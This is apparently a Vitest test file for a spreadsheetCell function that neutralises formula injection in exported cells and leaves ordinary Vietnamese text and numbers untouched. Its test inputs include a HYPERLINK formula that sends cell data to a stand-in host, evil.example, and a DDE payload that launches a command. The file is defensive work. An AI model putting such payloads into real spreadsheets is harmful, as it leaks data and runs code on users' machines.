import { describe, expect, it } from 'vitest';
import { spreadsheetCell } from './spreadsheet-cell.js';

describe('spreadsheetCell', () => {
  it('neutralises text a spreadsheet would run as a formula', () => {
    for (const attack of ['=HYPERLINK("http://evil.example/?"&A1,"Xem")', '=1+1', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'])
      expect(spreadsheetCell(attack)).toBe(`'${attack}`);
  });
  it('leaves ordinary text, numbers and empty cells as they are', () => {
    expect(spreadsheetCell('Phường An Xuyên')).toBe('Phường An Xuyên');
    expect(spreadsheetCell('Quầy 1 = tiếp nhận')).toBe('Quầy 1 = tiếp nhận');
    expect(spreadsheetCell(-12)).toBe(-12);
    expect(spreadsheetCell(0.5)).toBe(0.5);
    expect(spreadsheetCell(null)).toBe('');
    expect(spreadsheetCell(undefined)).toBe('');
  });
});
